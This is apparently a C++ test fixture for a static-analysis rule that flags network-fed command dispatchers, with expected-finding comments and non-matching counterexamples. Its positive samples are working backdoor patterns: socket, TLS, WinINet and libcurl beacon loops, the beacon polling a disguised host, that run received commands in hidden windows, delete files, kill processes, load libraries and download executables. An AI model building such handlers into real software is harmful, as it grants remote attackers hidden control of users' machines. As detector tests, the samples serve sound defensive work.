// Remote-command samples in C++: the many shapes of a command dispatcher fed by the
// network — strcmp chains, std::string ==, switch on an opcode byte, a table of names and
// handlers, std::map of handlers, libcurl and WinINet polling — and the parsers that are not
// remote control (command line, configuration file, a status code, a single verb).
#include <windows.h>
#include <winsock2.h>
#include <wininet.h>
#include <curl/curl.h>
#include <cstdio>
#include <cstring>
#include <functional>
#include <map>
#include <string>

#pragma pack(push, 1)
struct PacketHeader {
    BYTE opcode;
    BYTE flags;
    WORD length;
};
#pragma pack(pop)

static void RunHidden(const char *cmdline)
{
    STARTUPINFOA si = { sizeof(si) };
    PROCESS_INFORMATION pi;
    si.dwFlags = STARTF_USESHOWWINDOW;
    si.wShowWindow = SW_HIDE;
    CreateProcessA(NULL, (LPSTR)cmdline, NULL, NULL, FALSE, CREATE_NO_WINDOW, NULL, NULL, &si, &pi); // want "remote-command/process-from-network"
    CloseHandle(pi.hThread);
    CloseHandle(pi.hProcess);
}

// ---- a strcmp chain over the received line --------------------------------------------

void HandleLine(SOCKET s, char *line)
{
    char *arg = strchr(line, ' ');
    if (arg)
        *arg++ = '\0';
    if (strcmp(line, "shell") == 0) { // want "remote-command/dispatcher"
        RunHidden(arg);
    } else if (!strcmp(line, "rm")) {
        DeleteFileA(arg); // want "remote-command/file-operation-from-network"
    } else if (_stricmp(line, "reboot") == 0) {
        ExitWindowsEx(EWX_REBOOT | EWX_FORCE, 0);
    } else if (strcmp(line, "ping") == 0) {
        send(s, "pong\n", 5, 0);
    }
}

void ControlLoop(SOCKET s)
{
    char buf[1024];
    int n;
    while ((n = recv(s, buf, sizeof buf - 1, 0)) > 0) {
        buf[n] = '\0';
        HandleLine(s, buf);
    }
}

// ---- switch on an opcode byte ---------------------------------------------------------

class Session {
public:
    explicit Session(SOCKET s) : m_sock(s) {}
    void Pump();
private:
    void OnPacket(const PacketHeader &hdr, const char *body);
    SOCKET m_sock;
};

void Session::Pump()
{
    PacketHeader hdr;
    char body[4096];
    while (recv(m_sock, (char *)&hdr, sizeof hdr, MSG_WAITALL) == sizeof hdr) {
        recv(m_sock, body, hdr.length, MSG_WAITALL);
        body[hdr.length] = 0;
        OnPacket(hdr, body);
    }
}

void Session::OnPacket(const PacketHeader &hdr, const char *body)
{
    switch (hdr.opcode) {
    case 0x10: // want "remote-command/dispatcher"
        WinExec(body, SW_HIDE); // want "remote-command/process-from-network"
        break;
    case 0x11:
        MoveFileExA(body, NULL, MOVEFILE_DELAY_UNTIL_REBOOT); // want "remote-command/file-operation-from-network"
        break;
    case 0x12: {
        HANDLE h = OpenProcess(PROCESS_TERMINATE, FALSE, (DWORD)atoi(body));
        TerminateProcess(h, 0);
        break;
    }
    case 0x13:
        send(m_sock, "\x13\x00\x00\x00", 4, 0);
        break;
    }
}

// ---- a table of names and handlers ----------------------------------------------------

typedef int (*CommandFn)(SOCKET, const char *);

static int CmdExec(SOCKET, const char *a) { return system(a); } // want "remote-command/process-from-network"
static int CmdKill(SOCKET, const char *a) { return TerminateProcess(OpenProcess(PROCESS_TERMINATE, FALSE, atoi(a)), 1); }
static int CmdDrop(SOCKET, const char *a) { return remove(a); } // want "remote-command/file-operation-from-network"
static int CmdLoad(SOCKET, const char *a) { return LoadLibraryA(a) != NULL; }

static const struct {
    const char *name;
    CommandFn fn;
} kCommands[] = {
    { "exec", CmdExec },
    { "kill", CmdKill },
    { "drop", CmdDrop },
    { "load", CmdLoad },
};

int Dispatch(SOCKET s, const char *verb, const char *arg)
{
    for (size_t i = 0; i < sizeof kCommands / sizeof kCommands[0]; ++i)
        if (strcmp(verb, kCommands[i].name) == 0) // want "remote-command/dispatcher"
            return kCommands[i].fn(s, arg);
    return -1;
}

void ServeTable(SOCKET s)
{
    char verb[32], arg[512];
    recv(s, verb, sizeof verb, 0);
    recv(s, arg, sizeof arg, 0);
    Dispatch(s, verb, arg);
}

// ---- std::map of handlers ---------------------------------------------------------------

static void DoUpdate(const std::string &url) { URLDownloadToFileA(NULL, url.c_str(), "C:\\ProgramData\\upd.exe", 0, NULL); }
static void DoUninstall(const std::string &) { DeleteService(OpenServiceA(OpenSCManagerA(NULL, NULL, SC_MANAGER_ALL_ACCESS), "AvAgent", DELETE)); }
static void DoScreenshot(const std::string &) { BitBlt(NULL, 0, 0, 0, 0, NULL, 0, 0, SRCCOPY); }

static std::map<std::string, void (*)(const std::string &)> g_handlers = {
    { "update", DoUpdate },
    { "uninstall", DoUninstall },
    { "screenshot", DoScreenshot },
};

void OnMessage(SSL *ssl)
{
    char buf[512];
    int n = SSL_read(ssl, buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    std::string msg(buf);
    std::string verb = msg.substr(0, msg.find(':'));
    std::string arg = msg.substr(msg.find(':') + 1);
    g_handlers[verb](arg); // want "remote-command/dispatcher"
}

// The same handler map, the reply copied by assignment.
void OnMessageAssigned(SSL *ssl)
{
    char buf[512];
    int n = SSL_read(ssl, buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    std::string msg = buf;
    size_t colon = msg.find(':');
    g_handlers[msg.substr(0, colon)](msg.substr(colon + 1)); // want "remote-command/dispatcher"
}

void OnMessageChecked(SSL *ssl)
{
    char buf[512];
    int n = SSL_read(ssl, buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    std::string verb(buf);
    auto it = g_handlers.find(verb); // todo "remote-command/dispatcher" map::find plus it->second(…): find is only a text search to the engine (and has no constant), and the call through the iterator is not a table call; `std::string verb(buf);` is also a vexing parse
    if (it != g_handlers.end())
        it->second("");
}

// ---- std::string == chain, received by WinINet polling -----------------------------------

void PollTasks(HINTERNET req)
{
    char buf[2048];
    DWORD got = 0;
    std::string task;
    while (InternetReadFile(req, buf, sizeof buf, &got) && got)
        task.append(buf, got);
    std::string verb = task.substr(0, task.find(' '));
    std::string arg = task.substr(task.find(' ') + 1);
    if (verb == "run") { // want "remote-command/dispatcher"
        ShellExecuteA(NULL, "open", arg.c_str(), NULL, NULL, SW_HIDE); // want "remote-command/process-from-network"
    } else if (verb == "del") {
        DeleteFileA(arg.c_str()); // want "remote-command/file-operation-from-network"
    } else if (verb == "sleep") {
        Sleep(atoi(arg.c_str()) * 1000);
    }
}

// The same verbs matched with compare(pos, len, verb).
void PollTasksPrefix(HINTERNET req)
{
    char buf[2048];
    DWORD got = 0;
    InternetReadFile(req, buf, sizeof buf - 1, &got);
    buf[got] = 0;
    std::string task(buf);
    if (task.compare(0, 4, "run ") == 0) // want "remote-command/dispatcher"
        WinExec(task.c_str() + 4, SW_HIDE); // want "remote-command/process-from-network"
    else if (task.compare(0, 4, "del ") == 0)
        DeleteFileA(task.c_str() + 4); // want "remote-command/file-operation-from-network"
}

// ---- enum class opcodes -----------------------------------------------------------------

enum class Op : uint8_t { Exec = 1, Delete = 2, Sleep = 3 };

void OnFrame(SOCKET s)
{
    uint8_t frame[1024];
    int n = recv(s, (char *)frame, sizeof frame, 0);
    if (n < 2)
        return;
    Op op = static_cast<Op>(frame[0]);
    const char *arg = (const char *)frame + 1;
    if (op == Op::Exec) // want "remote-command/dispatcher"
        system(arg); // want "remote-command/process-from-network"
    else if (op == Op::Delete)
        _unlink(arg); // want "remote-command/file-operation-from-network"
    else if (op == Op::Sleep)
        Sleep(1000);
}

// ---- libcurl: the dispatcher inside the write callback ----------------------------------

static size_t OnBeacon(char *data, size_t size, size_t nmemb, void *)
{
    size_t n = size * nmemb;
    std::string reply(data, n);
    if (reply.find("EXEC ") == 0) // want "remote-command/dispatcher"
        _popen(reply.c_str() + 5, "r"); // want "remote-command/process-from-network"
    else if (reply.find("KILL ") == 0)
        kill(atoi(reply.c_str() + 5), 9);
    return n;
}

void Beacon(CURL *curl)
{
    curl_easy_setopt(curl, CURLOPT_URL, "https://cdn-metrics.example.net/b");
    curl_easy_setopt(curl, CURLOPT_WRITEFUNCTION, OnBeacon);
    curl_easy_perform(curl);
}

static size_t OnBeaconAssign(char *data, size_t size, size_t nmemb, void *)
{
    std::string reply;
    reply.assign(data, size * nmemb);
    if (reply.find("EXEC ") == 0) // want "remote-command/dispatcher"
        _popen(reply.c_str() + 5, "r"); // want "remote-command/process-from-network"
    else if (reply.find("KILL ") == 0)
        kill(atoi(reply.c_str() + 5), 9);
    return size * nmemb;
}

void Beacon2(CURL *curl)
{
    curl_easy_setopt(curl, CURLOPT_WRITEFUNCTION, OnBeaconAssign);
    curl_easy_perform(curl);
}

// libcurl again, but the reply is collected through CURLOPT_WRITEDATA and parsed afterwards.
static size_t Collect(char *data, size_t size, size_t nmemb, void *userdata)
{
    static_cast<std::string *>(userdata)->append(data, size * nmemb);
    return size * nmemb;
}

void Checkin(CURL *curl)
{
    std::string reply;
    curl_easy_setopt(curl, CURLOPT_URL, "https://cdn-metrics.example.net/checkin");
    curl_easy_setopt(curl, CURLOPT_WRITEFUNCTION, Collect);
    curl_easy_setopt(curl, CURLOPT_WRITEDATA, &reply);
    curl_easy_perform(curl);
    if (reply == "uninstall") // todo "remote-command/dispatcher" the callback writes into its userdata parameter, but nothing links CURLOPT_WRITEDATA's &reply to that parameter
        DeleteFileA("C:\\ProgramData\\AvAgent\\agent.exe");
    else if (reply == "restart")
        ExitWindowsEx(EWX_REBOOT, 0);
}

// ---- must not match ---------------------------------------------------------------------

int main(int argc, char **argv)
{
    for (int i = 1; i < argc; ++i) {
        if (strcmp(argv[i], "--install") == 0) // ok: a local command-line parser
            CreateServiceA(NULL, "AvAgent", "AvAgent", SERVICE_ALL_ACCESS, SERVICE_WIN32_OWN_PROCESS, SERVICE_AUTO_START, SERVICE_ERROR_NORMAL, argv[0], NULL, NULL, NULL, NULL, NULL);
        else if (strcmp(argv[i], "--uninstall") == 0)
            DeleteFileA(argv[0]); // ok: the path comes from the command line
        else if (strcmp(argv[i], "--run") == 0 && i + 1 < argc)
            system(argv[++i]); // ok: the command comes from the command line
    }
    return 0;
}

void ApplyConfig(const char *path)
{
    FILE *f = fopen(path, "r");
    char line[256];
    while (fgets(line, sizeof line, f)) {
        if (strncmp(line, "purge", 5) == 0) // ok: commands in a local configuration file
            DeleteFileA("C:\\ProgramData\\AvAgent\\cache.db");
        else if (strncmp(line, "restart", 7) == 0)
            ExitWindowsEx(EWX_REBOOT, 0);
    }
    fclose(f);
}

int CheckStatus(SOCKET s)
{
    char status[16];
    recv(s, status, sizeof status, 0);
    if (strcmp(status, "OK") == 0) // ok: one comparison with no action is not a dispatcher
        return 0;
    if (strcmp(status, "RETRY") == 0)
        return 1;
    return -1;
}

void OnLicenseReply(SOCKET s)
{
    char reply[64];
    recv(s, reply, sizeof reply, 0);
    if (strcmp(reply, "EXPIRED") == 0) // ok: only one command, and it runs a constant
        system("C:\\Program Files\\AvCorp\\notify.exe --license-expired");
}

// A version probe: the server asks for two facts and gets them back on the same socket.
void AnswerProbe(SOCKET s)
{
    char q[32];
    recv(s, q, sizeof q, 0);
    if (strcmp(q, "VERSION") == 0) // ok: replies on the same socket are weak actions; a question-and-answer protocol is not remote control
        send(s, "5.1.2", 5, 0);
    else if (strcmp(q, "UPTIME") == 0)
        send(s, "1234", 4, 0);
}
